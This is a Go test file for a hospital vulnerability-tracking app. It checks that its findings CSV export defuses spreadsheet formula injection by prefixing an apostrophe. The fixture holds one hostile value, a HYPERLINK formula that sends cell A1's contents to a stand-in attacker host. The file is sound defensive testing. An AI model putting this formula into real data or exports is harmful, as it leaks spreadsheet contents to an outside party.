package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"testing"
	"time"

	"github.com/medisac/medisac/internal/auth"
	"github.com/medisac/medisac/internal/db"
	"github.com/medisac/medisac/internal/db/dbtest"
	"github.com/medisac/medisac/internal/inventory"
	"github.com/medisac/medisac/internal/vuln"
)

// TestVulnFindingsCSVFormula: an asset name that a spreadsheet would run
// as a formula is written into the findings CSV with a leading apostrophe.
func TestVulnFindingsCSVFormula(t *testing.T) {
	for _, backend := range []string{"sqlite", "postgres"} {
		t.Run(backend, func(t *testing.T) {
			ctx := context.Background()
			target := filepath.Join(t.TempDir(), "medisac.db")
			if backend == "postgres" {
				target = dbtest.PostgresURL(t)
			}
			d, err := db.Open(ctx, target)
			if err != nil {
				t.Fatal(err)
			}
			defer d.Close()
			if _, err := d.Migrate(ctx); err != nil {
				t.Fatal(err)
			}
			now := time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)
			org, err := auth.CreateOrg(ctx, d, auth.OrgInput{Kind: auth.KindHospital, Name: "書き出し病院", Prefecture: "東京都"}, now)
			if err != nil {
				t.Fatal(err)
			}
			name := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
			a, err := inventory.CreateAsset(ctx, d, org.ID, "", inventory.Asset{Name: name, Kind: inventory.KindNetwork}, now)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := d.Exec(ctx, `INSERT INTO vuln_findings (id, org_id, asset_id, vuln_id, active, confidence, priority, rank, first_seen, changed_at) VALUES (?, ?, ?, ?, ?, 'exact', ?, ?, ?, ?)`,
				db.NewID(), org.ID, a.ID, "CVE-2099-00001", true, 1, 1, now, now); err != nil {
				t.Fatal(err)
			}
			var out bytes.Buffer
			if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", &out); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&out).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("csv %v %q", err, out.String())
			}
			if rows[1][0] != "'"+name {
				t.Errorf("asset name cell %q", rows[1][0])
			}
		})
	}
}
